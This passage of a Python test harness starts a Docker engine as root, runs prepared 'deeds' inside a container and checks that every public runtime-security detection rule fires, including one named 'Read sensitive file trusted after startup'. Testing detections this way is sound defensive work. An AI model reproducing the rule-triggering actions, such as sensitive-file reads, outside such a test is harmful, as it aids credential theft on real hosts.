    return done.stdout.strip() if done.returncode == 0 else None


def main():
    if not all(map(os.path.exists, FILES)):
        tap.skip("the public rules on this kernel", "no shared data")
        tap.end()
    if os.geteuid() or not shutil.which("dockerd") or not shutil.which("docker"):
        tap.skip("the public rules on this kernel", "this takes root and an engine")
        tap.end()
    tried = {one["rule"] for one in ACTS} | {rule for _, rule, _ in STARTS} | {rule for _, rule, _ in SITTING} | {"Read sensitive file trusted after startup"}
    left = [rule for rule in rules_known() if rule not in tried and rule not in CANNOT]
    tap.ok(not left, "every rule of the files is tried, or it is said why not", left)
    for rule, why in CANNOT.items():
        tap.skip(rule, why)
    scratch = tempfile.mkdtemp(prefix="bulkhead-watch-")
    try:
        archive = make_image(scratch)
        os.makedirs(scratch + "/host")
        for name in OF_DEEDS + ["deeds"]:
            os.symlink("../deeds", os.path.join(scratch, "host", name))
        if not archive:
            tap.skip("the public rules on this kernel", "no compiler for static programs")
        else:
            shutil.copy(scratch + "/deeds", "/dev/shm/deeds")
            if not watch_all(scratch, archive, "overlay2"):
                engine_start.remove(scratch + "/docker")
                if not watch_all(scratch, archive, "vfs"):
                    tap.skip("the public rules on this kernel", "no engine starts here")
    finally:
        if os.path.exists("/dev/shm/deeds"):
            os.unlink("/dev/shm/deeds")
        engine_start.remove(scratch)
    if LATE:
        print(f"# from the event to the line: at most {max(LATE)} ms, median {sorted(LATE)[len(LATE) // 2]} ms")
    tap.end()


main()
